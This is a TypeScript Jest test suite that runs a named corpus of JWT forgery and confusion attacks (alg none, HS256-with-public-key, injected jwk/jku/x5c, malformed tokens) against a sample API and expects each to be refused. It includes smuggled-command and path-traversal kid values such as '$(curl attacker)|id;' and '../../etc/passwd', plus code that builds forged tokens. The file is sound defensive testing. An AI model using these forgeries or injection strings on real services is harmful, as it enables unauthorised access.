import { createSecretKey, generateKeyPairSync, sign, X509Certificate, type KeyObject } from 'node:crypto';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import request from 'supertest';
import type { RejectionReason } from 'nest-resource-server';
import { signJws, TestIssuer, type TestKey } from 'nest-resource-server/testing';
import { startSampleApp, type RunningApp } from '../../../test/support/sample-app.js';
import { TodoApiModule } from '../src/todo-api.module.js';

const DEFAULTS = { port: 3001, audience: 'todo-api' };
const REALM = 'Bearer realm="todo-api"';
const invalidToken = (description: string) => `${REALM}, error="invalid_token", error_description="${description}"`;
const INVALID_REQUEST = `${REALM}, error="invalid_request"`;

const D = {
  alg: 'token algorithm is not accepted',
  unsigned: 'token is not signed',
  signature: 'token signature is invalid',
  unknownKid: 'token signing key (kid) is unknown',
  badKid: 'token key id (kid) is not a usable string',
  crit: 'token has critical header parameters this server does not understand',
  expired: 'token expired',
  expNaN: 'token exp claim is missing or not a number',
  nbf: 'token is not valid yet',
  nbfNaN: 'token nbf claim is not a number',
  iat: 'token was issued in the future',
  iatNaN: 'token iat claim is not a number',
  issuer: 'token issuer is not accepted',
  audience: 'token audience is not accepted',
  notJws: 'token is not a JWS in compact form',
  headerNotJson: 'token header is not JSON',
  headerNotObject: 'token header is not a JSON object',
  payloadNotJson: 'token is malformed',
  claimsNotObject: 'token claims are not a JSON object',
  headerNotUtf8: 'token header is not UTF-8',
  payloadNotUtf8: 'token payload is not UTF-8',
  idToken: 'an id token is not an access token',
} as const;

/** The `reason` each refusal must carry (the contract, second edition): what a client acts on. */
const REASONS: Record<(typeof D)[keyof typeof D], RejectionReason> = {
  [D.alg]: 'algorithm_not_allowed',
  [D.unsigned]: 'token_malformed',
  [D.signature]: 'signature_invalid',
  [D.unknownKid]: 'key_unknown',
  [D.badKid]: 'key_unknown',
  [D.crit]: 'token_malformed',
  [D.expired]: 'token_expired',
  [D.expNaN]: 'token_malformed',
  [D.nbf]: 'token_not_yet_valid',
  [D.nbfNaN]: 'token_malformed',
  [D.iat]: 'token_not_yet_valid',
  [D.iatNaN]: 'token_malformed',
  [D.issuer]: 'issuer_mismatch',
  [D.audience]: 'audience_mismatch',
  [D.notJws]: 'token_malformed',
  [D.headerNotJson]: 'token_malformed',
  [D.headerNotObject]: 'token_malformed',
  [D.payloadNotJson]: 'token_malformed',
  [D.claimsNotObject]: 'token_malformed',
  [D.headerNotUtf8]: 'token_malformed',
  [D.payloadNotUtf8]: 'token_malformed',
  [D.idToken]: 'token_type_not_accepted',
};

/**
 * What a row expects: a 2xx, or a refusal with its exact challenge. `description` is the
 * body's `error_description` (also in the challenge for 401).
 */
type Outcome = { status: 200 } | { status: 401; description: string } | { status: 400 };
const ok: Outcome = { status: 200 };
const refused = (description: string): Outcome => ({ status: 401, description });
const badRequest: Outcome = { status: 400 };

/**
 * The attack corpus: one named case per known way to forge, confuse or break a bearer
 * token, against the real todo-api and a real issuer on loopback, at a fixed time. Each
 * case names the RFC 8725 section or the CVE it stands for.
 */
describe('todo-api under the attack corpus', () => {
  const now = Math.floor(Date.UTC(2026, 0, 1) / 1000);
  const clock = () => now * 1000;
  let issuer: TestIssuer;
  let attacker: TestIssuer;
  let api: RunningApp;
  let hmacApi: RunningApp;
  let rs384: TestKey;
  let attackerCert: string;
  const hmacSecret = 'a-shared-secret-of-at-least-32-bytes!';

  beforeAll(async () => {
    issuer = await TestIssuer.start({ audience: 'todo-api', clock });
    attacker = await TestIssuer.start({ audience: 'todo-api', clock });
    rs384 = issuer.addKey('RS384');
    issuer.rotateKeys({ alg: 'RS256' }); // tokens are signed with RS256; the RS384 key stays published
    attackerCert = selfSignedCertificate(attacker.currentKey);
    api = await startSampleApp((o) => TodoApiModule.forRoot(o), DEFAULTS, { OAUTH_ISSUER: issuer.url }, { clock });
    hmacApi = await startSampleApp(
      (o) => TodoApiModule.forRoot(o),
      DEFAULTS,
      { OAUTH_ISSUER: issuer.url, OAUTH_HMAC_SECRET: hmacSecret, OAUTH_ALGORITHMS: 'RS256,HS256' },
      { clock },
    );
  });
  afterAll(async () => {
    await api.close();
    await hmacApi.close();
    await issuer.close();
    await attacker.close();
  });

  const claims = (extra: Record<string, unknown> = {}) => ({
    iss: issuer.url,
    sub: 'user-1',
    aud: 'todo-api',
    iat: now,
    exp: now + 300,
    ...extra,
  });
  const header = (extra: Record<string, unknown> = {}) => ({
    alg: 'RS256',
    typ: 'at+jwt',
    kid: issuer.currentKey.kid,
    ...extra,
  });
  const token = (claimOverrides: Record<string, unknown> = {}) => issuer.token({ claims: claimOverrides });
  const segments = (jws: string) => jws.split('.') as [string, string, string];
  const b64 = (value: unknown) =>
    Buffer.from(typeof value === 'string' ? value : JSON.stringify(value), 'utf8').toString('base64url');
  /** Signs exactly these header and payload bytes with RS256. */
  const signRaw = (headerBytes: Buffer | string, payloadBytes: Buffer | string, key: KeyObject) => {
    const input = `${Buffer.from(headerBytes).toString('base64url')}.${Buffer.from(payloadBytes).toString('base64url')}`;
    return `${input}.${sign('sha256', Buffer.from(input), key).toString('base64url')}`;
  };
  const issuerKey = () => issuer.currentKey.privateKey;

  async function expectOutcome(target: RunningApp, token: string, outcome: Outcome, path = '/me'): Promise<void> {
    const response = await request(target.app.getHttpServer()).get(path).set('authorization', `Bearer ${token}`);
    expect(response.status).toBe(outcome.status);
    if (outcome.status === 200) return;
    expect(response.headers['content-type']).toMatch(/^application\/json/);
    if (outcome.status === 400) {
      expect(response.headers['www-authenticate']).toBe(INVALID_REQUEST);
      expect(response.body).toMatchObject({ error: 'invalid_request' });
    } else {
      expect(response.headers['www-authenticate']).toBe(invalidToken(outcome.description));
      expect(response.body).toEqual({
        statusCode: 401,
        error: 'invalid_token',
        error_description: outcome.description,
        reason: REASONS[outcome.description as keyof typeof REASONS],
      });
    }
    if (token.length >= 16) expect(JSON.stringify(response.headers) + response.text).not.toContain(token);
  }

  it('accepts the untampered token the corpus starts from (the control case)', async () => {
    await expectOutcome(api, token(), ok);
  });

  describe('alg none and stripped signatures', () => {
    it.each<[string, () => string, Outcome]>([
      ...(['none', 'None', 'NONE', 'nOnE'] as const).flatMap((alg): [string, () => string, Outcome][] => [
        [
          `alg ${alg} without a signature (RFC 8725 §2.1, §3.1; CVE-2015-2951)`,
          () => signJws(header({ alg }), claims()),
          refused(D.alg),
        ],
        [
          `alg ${alg} keeping a genuine signature (RFC 8725 §3.1; CVE-2018-1000531)`,
          () => {
            const [, , signature] = segments(token());
            return `${b64(header({ alg }))}.${b64(claims())}.${signature}`;
          },
          refused(D.alg),
        ],
      ]),
      [
        'a stripped signature, dot kept (RFC 8725 §3.3; CVE-2020-28042)',
        () => segments(token()).slice(0, 2).join('.') + '.',
        refused(D.unsigned),
      ],
      [
        'a stripped signature, dot dropped (RFC 8725 §3.3)',
        () => segments(token()).slice(0, 2).join('.'),
        refused(D.notJws),
      ],
      [
        'one signature byte altered (RFC 8725 §3.3)',
        () => {
          const [h, p, s] = segments(token());
          const bytes = Buffer.from(s, 'base64url');
          bytes[17] = bytes[17]! ^ 0x01;
          return `${h}.${p}.${bytes.toString('base64url')}`;
        },
        refused(D.signature),
      ],
      [
        'a non-canonical last signature character, same bytes (RFC 4648 §3.5, RFC 8725 §3.4)',
        () => {
          const [h, p, s] = segments(token());
          return `${h}.${p}.${s.slice(0, -1)}${flipPadBits(s.at(-1)!)}`;
        },
        refused(D.notJws),
      ],
      [
        'a payload altered under the original signature (RFC 8725 §3.3)',
        () => {
          const [h, , s] = segments(token());
          return `${h}.${b64(claims({ sub: 'admin', roles: ['admin'] }))}.${s}`;
        },
        refused(D.signature),
      ],
      [
        'a header altered under the original signature (RFC 8725 §3.3)',
        () => {
          const [, p, s] = segments(token());
          return `${b64(header({ typ: 'JWT' }))}.${p}.${s}`;
        },
        refused(D.signature),
      ],
      [
        'an all-zero signature of the right length (RFC 8725 §3.3; CVE-2022-21449 in spirit)',
        () => {
          const [h, p, s] = segments(token());
          return `${h}.${p}.${Buffer.alloc(Buffer.from(s, 'base64url').length).toString('base64url')}`;
        },
        refused(D.signature),
      ],
    ])('answers 401 invalid_token to %s', async (_name, build, outcome) => {
      await expectOutcome(api, build(), outcome);
    });
  });

  describe('algorithm confusion and the allowlist', () => {
    const pem = () => issuer.currentKey.publicKey.export({ format: 'pem', type: 'spki' }) as string;
    const jwkJson = () => JSON.stringify(issuer.currentKey.publicKey.export({ format: 'jwk' }));
    const hs = (alg: string, secret: string) => signJws(header({ alg }), claims(), createSecret(secret)) as string;

    it.each<[string, () => string, Outcome, Outcome]>([
      [
        'HS256 keyed with the RSA public key PEM (CVE-2015-9235, CVE-2016-10555; RFC 8725 §2.1, §3.1)',
        () => hs('HS256', pem()),
        refused(D.alg),
        refused(D.signature),
      ],
      [
        'HS256 keyed with the public JWK JSON (CVE-2016-10555; RFC 8725 §3.1)',
        () => hs('HS256', jwkJson()),
        refused(D.alg),
        refused(D.signature),
      ],
      [
        'HS256 without kid keyed with the RSA public key PEM (CVE-2022-23541)',
        () => signJws({ alg: 'HS256', typ: 'JWT' }, claims(), createSecret(pem())),
        refused(D.alg),
        refused(D.signature),
      ],
      [
        'RS384 signed by a key the issuer publishes (RFC 8725 §3.2)',
        () => issuer.token({ key: rs384 }),
        refused(D.alg),
        refused(D.alg),
      ],
      ['HS512 (RFC 8725 §3.2)', () => hs('HS512', hmacSecret), refused(D.alg), refused(D.alg)],
      [
        'EdDSA signed by a key of its own (RFC 8725 §3.2)',
        () => {
          const { privateKey } = generateKeyPairSync('ed25519');
          const input = `${b64(header({ alg: 'EdDSA' }))}.${b64(claims())}`;
          return `${input}.${sign(null, Buffer.from(input), privateKey).toString('base64url')}`;
        },
        refused(D.alg),
        refused(D.alg),
      ],
      [
        'alg in another case, RS256 spelled rs256 (RFC 8725 §3.1)',
        () => signJws(header({ alg: 'rs256' }), claims()) + segments(token())[2],
        refused(D.alg),
        refused(D.alg),
      ],
      [
        'alg as an array (RFC 8725 §3.1)',
        () => `${b64(header({ alg: ['RS256'] }))}.${b64(claims())}.${segments(token())[2]}`,
        refused(D.alg),
        refused(D.alg),
      ],
    ])(
      'answers 401 invalid_token to %s, with or without a configured HMAC secret',
      async (_name, build, plain, withHmac) => {
        const jws = build();
        await expectOutcome(api, jws, plain);
        await expectOutcome(hmacApi, jws, withHmac);
      },
    );
  });

  describe('keys offered by the token', () => {
    const forged = (extraHeader: Record<string, unknown>, kid = attacker.currentKey.kid) =>
      attacker.token({ claims: claims(), header: { kid, ...extraHeader } });
    const attackerJwk = () => ({
      ...attacker.currentKey.publicKey.export({ format: 'jwk' }),
      kid: attacker.currentKey.kid,
    });

    it.each<[string, () => string, Outcome]>([
      [
        'an embedded jwk under its own kid (CVE-2018-0114; RFC 8725 §3.10)',
        () => forged({ jwk: attackerJwk() }),
        refused(D.unknownKid),
      ],
      [
        "an embedded jwk under the issuer's kid (CVE-2018-0114; RFC 8725 §3.10)",
        () => forged({ jwk: attackerJwk() }, issuer.currentKey.kid),
        refused(D.signature),
      ],
      [
        'jku pointing to an attacker JWKS (RFC 8725 §2.9, §3.10)',
        () => forged({ jku: attacker.jwksUri }),
        refused(D.unknownKid),
      ],
      [
        "jku pointing to an attacker JWKS, under the issuer's kid (RFC 8725 §2.9)",
        () => forged({ jku: attacker.jwksUri }, issuer.currentKey.kid),
        refused(D.signature),
      ],
      [
        'x5u pointing to an attacker URL (RFC 8725 §2.9, §3.10)',
        () => forged({ x5u: `${attacker.url}/cert.pem` }),
        refused(D.unknownKid),
      ],
      [
        'x5c carrying an attacker certificate (RFC 8725 §3.10)',
        () => forged({ x5c: [attackerCert] }),
        refused(D.unknownKid),
      ],
      [
        "x5c carrying an attacker certificate, under the issuer's kid (RFC 8725 §3.10)",
        () => forged({ x5c: [attackerCert] }, issuer.currentKey.kid),
        refused(D.signature),
      ],
    ])('answers 401 invalid_token to %s and never contacts the attacker', async (_name, build, outcome) => {
      const before = totalHits(attacker);
      await expectOutcome(api, build(), outcome);
      // the attacker's server is never contacted: no SSRF, no key fetched from the token
      expect(totalHits(attacker)).toBe(before);
    });

    it('never contacted the attacker’s server during the whole corpus (RFC 8725 §2.9)', () => {
      expect(totalHits(attacker)).toBe(0);
    });

    it('uses a certificate that really holds the attacker key (so the x5c cases are meaningful)', () => {
      const certificate = new X509Certificate(Buffer.from(attackerCert, 'base64'));
      expect(certificate.verify(attacker.currentKey.publicKey)).toBe(true);
      expect(certificate.publicKey.export({ format: 'jwk' })).toEqual(
        attacker.currentKey.publicKey.export({ format: 'jwk' }),
      );
    });
  });

  describe('odd kid values (RFC 8725 §2.9, §3.10)', () => {
    it.each<[string, unknown, Outcome]>([
      ['an unknown kid', 'f7c1d3c4-0000-4000-8000-000000000000', refused(D.unknownKid)],
      ['a path-like kid', '../../etc/passwd', refused(D.unknownKid)],
      ['a path-like kid with a NUL byte', '../../dev/null\u0000', refused(D.unknownKid)],
      ['an SQL-ish kid', "' OR '1'='1' --", refused(D.unknownKid)],
      ['a command-ish kid', '$(curl attacker)|id;', refused(D.unknownKid)],
      ['a prototype key as kid', '__proto__', refused(D.unknownKid)],
      ['an inherited property name as kid', 'constructor', refused(D.unknownKid)],
      ['a kid of 5000 characters', 'k'.repeat(5000), refused(D.badKid)],
      ['a numeric kid', 1, refused(D.badKid)],
      ['a null kid', null, refused(D.badKid)],
      ['an object kid', { $ne: '' }, refused(D.badKid)],
      ['an array kid', ['a', 'b'], refused(D.badKid)],
      ['an empty-string kid', '', refused(D.badKid)],
    ])('answers 401 invalid_token to %s', async (_name, kid, outcome) => {
      // signed by the issuer's real key: only the kid is wrong
      const jws = signJws(header({ kid }), claims(), issuerKey());
      await expectOutcome(api, jws, outcome);
    });
  });

  describe('crit header parameters (RFC 7515 §4.1.11, RFC 7797 §6)', () => {
    it.each<[string, Record<string, unknown>]>([
      ['an unknown crit extension', { crit: ['x-unknown'], 'x-unknown': 1 }],
      ['crit: [] (an empty list is forbidden)', { crit: [] }],
      ['crit: ["b64"] with b64: false (unencoded payload)', { crit: ['b64'], b64: false }],
      ['crit as a string', { crit: 'exp' }],
      ['crit naming a parameter that is absent', { crit: ['x-missing'] }],
    ])('answers 401 invalid_token to %s', async (_name, extra) => {
      await expectOutcome(api, signJws(header(extra), claims(), issuerKey()), refused(D.crit));
    });
  });

  describe('exp, nbf and iat around the 30 s tolerance (RFC 7519 §4.1.4-6)', () => {
    it.each<[string, () => string, Outcome]>([
      ['exp = now - 29 (within tolerance)', () => token({ exp: now - 29 }), ok],
      ['exp = now - 30 (tolerance reached)', () => token({ exp: now - 30 }), refused(D.expired)],
      ['exp = now - 31', () => token({ exp: now - 31 }), refused(D.expired)],
      ['nbf = now + 29', () => token({ nbf: now + 29 }), ok],
      ['nbf = now + 31', () => token({ nbf: now + 31 }), refused(D.nbf)],
      ['iat = now + 29', () => token({ iat: now + 29 }), ok],
      ['iat = now + 31 (issued in the future)', () => token({ iat: now + 31 }), refused(D.iat)],
      ['iat far in the future', () => token({ iat: now + 86_400 * 365 }), refused(D.iat)],
      ['exp as a numeric string', () => token({ exp: String(now + 300) }), refused(D.expNaN)],
      ['exp null (JSON for NaN)', () => token({ exp: null }), refused(D.expNaN)],
      ['exp "NaN"', () => token({ exp: 'NaN' }), refused(D.expNaN)],
      ['exp 1e400 (parses to Infinity)', () => rawClaims(`"exp":1e400`), refused(D.expNaN)],
      ['exp true', () => token({ exp: true }), refused(D.expNaN)],
      ['exp as an array', () => token({ exp: [now + 300] }), refused(D.expNaN)],
      // a finite NumericDate far ahead: the issuer chose it and signed it
      ['exp huge (1e20), signed by the issuer', () => token({ exp: 1e20 }), ok],
      ['exp negative', () => token({ exp: -1 }), refused(D.expired)],
      ['exp 0', () => token({ exp: 0 }), refused(D.expired)],
      ['nbf as a string', () => token({ nbf: String(now) }), refused(D.nbfNaN)],
      ['iat as a string', () => token({ iat: String(now) }), refused(D.iatNaN)],
    ])('answers %s with the contract status and challenge', async (_name, build, outcome) => {
      await expectOutcome(api, build(), outcome);
    });

    /** A token whose payload JSON ends with `member` verbatim (for numbers JSON.stringify cannot write). */
    function rawClaims(member: string): string {
      const { exp: _exp, ...rest } = claims();
      const json = JSON.stringify(rest).slice(0, -1) + `,${member}}`;
      return signRaw(JSON.stringify(header()), json, issuerKey());
    }
  });

  describe('iss near-misses (RFC 8725 §3.8)', () => {
    it.each<[string, () => unknown]>([
      ['a trailing slash', () => `${issuer.url}/`],
      ['another case', () => issuer.url.toUpperCase()],
      ['https instead of http', () => issuer.url.replace('http:', 'https:')],
      ['a leading space', () => ` ${issuer.url}`],
      ['another port', () => issuer.url.replace(/:\d+$/, ':1')],
      ['missing', () => undefined],
      ['an array holding the issuer', () => [issuer.url]],
      ['null', () => null],
    ])('answers 401 invalid_token to iss with %s', async (_name, iss) => {
      await expectOutcome(api, token({ iss: iss() }), refused(D.issuer));
    });
  });

  describe('aud near-misses and cross-JWT confusion (RFC 8725 §2.8, §3.9, §3.12)', () => {
    it.each<[string, unknown]>([
      ['a prefix of the audience', 'todo-ap'],
      ['the audience with a suffix', 'todo-api-admin'],
      ['the audience in another case', 'Todo-Api'],
      ['the audience with a trailing space', 'todo-api '],
      ['an empty array', []],
      ['an array of non-strings', [1, null, { aud: 'todo-api' }, ['todo-api']]],
      ['the audience as a URL', 'https://todo-api'],
      ['missing', undefined],
      ['an object', { 'todo-api': true }],
    ])('answers 401 invalid_token to aud %s', async (_name, aud) => {
      await expectOutcome(api, token({ aud }), refused(D.audience));
    });

    it('accepts an aud array holding the audience among other values (the control case)', async () => {
      await expectOutcome(api, token({ aud: [1, 'help-api', 'todo-api'] }), ok);
    });

    it('answers 401 invalid_token to an id token presented as an access token (RFC 8725 §2.8, §3.12)', async () => {
      const idToken = issuer.token({
        claims: { aud: 'web', azp: 'web', nonce: 'n-0S6_WzA2Mj', auth_time: now - 5, scope: undefined },
        header: { typ: 'JWT' },
      });
      await expectOutcome(api, idToken, refused(D.audience));
    });

    it.each<[string, Record<string, unknown>]>([
      ['at_hash', { at_hash: 'x4wTgF2uWVl0ZOiTnW6Uzg' }],
      ['c_hash', { c_hash: 'LDktKdoQak3Pk0cnXxCltA' }],
      ['a nonce and no scope', { nonce: 'n-0S6_WzA2Mj', scope: undefined }],
      ['token_use id', { token_use: 'id' }],
      ['a typ claim of ID', { typ: 'ID' }],
    ])(
      "answers 401 invalid_token to an id token with the API's own audience, marked by %s (FusionAuth's setup)",
      async (_case, markers) => {
        const idToken = issuer.token({
          claims: { aud: 'todo-api', auth_time: now - 5, ...markers },
          header: { typ: 'JWT' },
        });
        await expectOutcome(api, idToken, refused(D.idToken));
      },
    );
  });

  describe('malformed compact serialisations (RFC 7515 §7.1, RFC 8725 §3.7)', () => {
    const valid = () => segments(token());
    it.each<[string, () => string, Outcome]>([
      ['two parts', () => valid().slice(0, 2).join('.'), refused(D.notJws)],
      ['four parts', () => [...valid(), valid()[2]].join('.'), refused(D.notJws)],
      [
        'a five-part JWE',
        () => [b64({ alg: 'RSA-OAEP', enc: 'A256GCM', kid: issuer.currentKey.kid }), 'a', 'b', 'c', 'd'].join('.'),
        refused(D.notJws),
      ],
      ['only dots', () => '..', refused(D.notJws)],
      ['an empty header', () => `.${valid()[1]}.${valid()[2]}`, refused(D.notJws)],
      ['an empty payload', () => `${valid()[0]}..${valid()[2]}`, refused(D.notJws)],
      [
        'a + inside a segment (base64, not base64url)',
        () => valid().join('.').replace(/\.(.)/, '.+'),
        refused(D.notJws),
      ],
      ['a / inside a segment', () => valid().join('.').replace(/\.(.)/, './'), refused(D.notJws)],
      ['= padding after the signature', () => `${valid().join('.')}=`, refused(D.notJws)],
      ['= padding inside the token (outside b64token)', () => `${valid()[0]}=.${valid()[1]}.${valid()[2]}`, badRequest],
      [
        'a header that is not JSON',
        () => `${b64('{"alg":"RS256",')}.${valid()[1]}.${valid()[2]}`,
        refused(D.headerNotJson),
      ],
      [
        'a header that is a JSON array',
        () => `${b64(['RS256'])}.${valid()[1]}.${valid()[2]}`,
        refused(D.headerNotObject),
      ],
      [
        'a header that is a JSON string',
        () => `${b64('"RS256"')}.${valid()[1]}.${valid()[2]}`,
        refused(D.headerNotObject),
      ],
      ['a header that is JSON null', () => `${b64('null')}.${valid()[1]}.${valid()[2]}`, refused(D.headerNotObject)],
      [
        'a header with a duplicate alg, none last (RFC 8725 §2.6)',
        () => `${b64(`{"alg":"RS256","kid":"${issuer.currentKey.kid}","alg":"none"}`)}.${valid()[1]}.`,
        refused(D.alg),
      ],
      [
        'a signed payload that is not JSON',
        () => signRaw(JSON.stringify(header()), '{"sub":', issuerKey()),
        refused(D.claimsNotObject),
      ],
      [
        'a signed payload that is not JSON, typ JWT',
        () => signRaw(JSON.stringify(header({ typ: 'JWT' })), '{"sub":', issuerKey()),
        refused(D.payloadNotJson),
      ],
      [
        'a signed payload that is a JSON string',
        () => signRaw(JSON.stringify(header()), '"user-1"', issuerKey()),
        refused(D.claimsNotObject),
      ],
      [
        'a signed payload that is a JSON array',
        () => signRaw(JSON.stringify(header()), JSON.stringify([claims()]), issuerKey()),
        refused(D.claimsNotObject),
      ],
      [
        'a signed payload that is JSON null',
        () => signRaw(JSON.stringify(header()), 'null', issuerKey()),
        refused(D.claimsNotObject),
      ],
      [
        'invalid UTF-8 in the header (RFC 8725 §3.7)',
        () =>
          signRaw(
            Buffer.concat([Buffer.from(JSON.stringify(header()).slice(0, -2)), Buffer.from([0xff]), Buffer.from('"}')]),
            JSON.stringify(claims()),
            issuerKey(),
          ),
        refused(D.headerNotUtf8),
      ],
      [
        'invalid UTF-8 in a signed payload (RFC 8725 §3.7)',
        () =>
          signRaw(
            JSON.stringify(header()),
            Buffer.concat([
              Buffer.from(JSON.stringify(claims()).slice(0, -1) + ',"name":"'),
              Buffer.from([0xc3, 0x28]),
              Buffer.from('"}'),
            ]),
            issuerKey(),
          ),
        refused(D.payloadNotUtf8),
      ],
      [
        'a UTF-8 byte order mark before the header JSON (RFC 8725 §3.7)',
        () =>
          signRaw(
            Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify(header()))]),
            JSON.stringify(claims()),
            issuerKey(),
          ),
        refused(D.headerNotJson),
      ],
    ])('answers %s with the contract status and challenge', async (_name, build, outcome) => {
      await expectOutcome(api, build(), outcome);
    });
  });

  describe('oversized requests', () => {
    it('answers 431 or drops the connection, never 2xx or 5xx, for a 64 KiB token, and keeps serving', async () => {
      const result = await exchange(api.port, [`Authorization: Bearer ${'a'.repeat(64 * 1024)}`]);
      expect([431, undefined]).toContain(result.status);
      await expectOutcome(api, token(), ok);
    });

    it('answers 431 or drops the connection, never 2xx or 5xx, for a 64 KiB cookie, and keeps serving', async () => {
      const result = await exchange(api.port, [`Cookie: app.at=${'a'.repeat(64 * 1024)}`]);
      expect([431, undefined]).toContain(result.status);
      await expectOutcome(api, token(), ok);
    });

    it('answers 401 invalid_token to a forged 15 KiB token just under the header limit', async () => {
      const padded = claims({ padding: 'p'.repeat(11 * 1024) });
      const forged = signJws(header(), padded, TestIssuer.foreignKey().privateKey);
      expect(forged.length).toBeGreaterThan(15 * 1024);
      await expectOutcome(api, forged, refused(D.signature));
    });

    it('answers 401 invalid_token to a forged token among 300 cookies', async () => {
      const cookies = Array.from({ length: 300 }, (_, i) => `c${i}=${'v'.repeat(20)}`);
      const forged = signJws(header(), claims({ sub: 'admin' }), TestIssuer.foreignKey().privateKey);
      const result = await exchange(api.port, [`Cookie: ${[...cookies, `app.at=${forged}`].join('; ')}`]);
      expect(result.status).toBe(401);
      expect(result.headers?.['www-authenticate']).toBe(invalidToken(D.signature));
    });
  });

  describe('scope near-misses on POST /todos (RFC 6750 §3.1, RFC 8693 §4.2)', () => {
    it.each<[string, 201 | 403, unknown]>([
      ['a longer scope, todo:writer', 403, 'todo:writer'],
      ['another case, TODO:WRITE', 403, 'TODO:WRITE'],
      ['scope as an array (must be a space-separated string)', 403, ['todo:write']],
      ['scopes separated by a tab', 403, 'todo:write\ttodo:read'],
      ['scopes separated by a comma', 403, 'todo:write,todo:read'],
      ['a no-break space after the scope', 403, 'todo:write\u00a0'],
      ['the scope as an object key', 403, { 'todo:write': true }],
      ['the exact scope among others (the control case)', 201, 'openid todo:write'],
    ])('answers %s with %i', async (_name, status, scope) => {
      const response = await request(api.app.getHttpServer())
        .post('/todos')
        .set('authorization', `Bearer ${token({ scope })}`)
        .send({ title: 'scope probe' });
      expect(response.status).toBe(status);
      if (status === 403) {
        expect(response.headers['www-authenticate']).toBe(`${REALM}, error="insufficient_scope", scope="todo:write"`);
        expect(response.body).toEqual({
          statusCode: 403,
          error: 'insufficient_scope',
          error_description: 'token lacks a required scope',
          reason: 'scope_missing',
          scope: 'todo:write',
        });
      }
    });
  });

  describe('role near-misses on DELETE /todos/:id', () => {
    it.each<[string, 403 | 404, unknown]>([
      ['Admin', 403, ['Admin']],
      ['admin with a trailing space', 403, ['admin ']],
      ['ADMIN as a string', 403, 'ADMIN'],
      ['roles as an object', 403, { admin: true }],
      ['roles as an array-like object', 403, { 0: 'admin', length: 1 }],
      ['a nested array', 403, [['admin']]],
      ['a comma-separated string', 403, 'user,admin'],
      ['a space-separated string', 403, 'user admin'],
      ['admin (the control case: 404 for an unknown id)', 404, ['user', 'admin']],
    ])('answers roles %s with %i', async (_name, status, roles) => {
      const response = await request(api.app.getHttpServer())
        .delete('/todos/unknown-id')
        .set('authorization', `Bearer ${token({ roles })}`);
      expect(response.status).toBe(status);
      if (status === 403) {
        expect(response.headers['www-authenticate']).toBe(
          `${REALM}, error="insufficient_scope", error_description="requires the role admin"`,
        );
        expect(response.body).toMatchObject({ error: 'insufficient_scope', reason: 'role_missing' });
      }
    });
  });
});

function createSecret(text: string): KeyObject {
  return createSecretKey(Buffer.from(text, 'utf8'));
}

/** Requests served by an issuer on every path. */
function totalHits(issuer: TestIssuer): number {
  return [...issuer.hits.values()].reduce((sum, n) => sum + n, 0);
}

const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
/** The same 6-bit value's neighbour in its unused low bits: decodes to the same bytes when those bits are padding. */
function flipPadBits(char: string): string {
  return B64URL[B64URL.indexOf(char) ^ 0x01]!;
}

/** A response read off the wire, or no status when the server dropped the connection first. */
function exchange(
  port: number,
  headerLines: readonly string[],
): Promise<{ status?: number; headers?: Record<string, string> }> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    const chunks: Buffer[] = [];
    const done = () => {
      const text = Buffer.concat(chunks).toString('latin1');
      const match = /^HTTP\/1\.1 (\d{3})/.exec(text);
      const headers: Record<string, string> = {};
      for (const line of text.split('\r\n\r\n')[0]!.split('\r\n').slice(1)) {
        const colon = line.indexOf(':');
        headers[line.slice(0, colon).toLowerCase()] = line.slice(colon + 1).trim();
      }
      resolve(match ? { status: Number(match[1]), headers } : {});
    };
    socket.on('data', (chunk) => chunks.push(chunk));
    socket.on('error', () => undefined); // a reset after the 431 is the server's right
    socket.on('close', done);
    socket.write(['GET /me HTTP/1.1', 'Host: 127.0.0.1', 'Connection: close', ...headerLines, '', ''].join('\r\n'));
  });
}

/** A self-signed X.509 certificate (DER, base64) for `key`, built by hand: the x5c an attacker would send. */
function selfSignedCertificate(key: TestKey): string {
  const der = (tag: number, ...parts: Buffer[]) => {
    const body = Buffer.concat(parts);
    const length =
      body.length < 0x80
        ? Buffer.from([body.length])
        : body.length < 0x100
          ? Buffer.from([0x81, body.length])
          : Buffer.from([0x82, body.length >> 8, body.length & 0xff]);
    return Buffer.concat([Buffer.from([tag]), length, body]);
  };
  const sequence = (...parts: Buffer[]) => der(0x30, ...parts);
  const sha256WithRsa = sequence(Buffer.from('06092a864886f70d01010b0500', 'hex'));
  const name = sequence(der(0x31, sequence(Buffer.from('0603550403', 'hex'), der(0x0c, Buffer.from('attacker')))));
  const validity = sequence(der(0x17, Buffer.from('250101000000Z')), der(0x17, Buffer.from('351231000000Z')));
  const spki = key.publicKey.export({ format: 'der', type: 'spki' });
  const tbs = sequence(
    Buffer.from('a003020102', 'hex'), // [0] version 3
    der(0x02, Buffer.from([0x01])), // serial
    sha256WithRsa,
    name,
    validity,
    name,
    spki,
  );
  const signature = sign('sha256', tbs, key.privateKey);
  return sequence(tbs, sha256WithRsa, der(0x03, Buffer.from([0]), signature)).toString('base64');
}
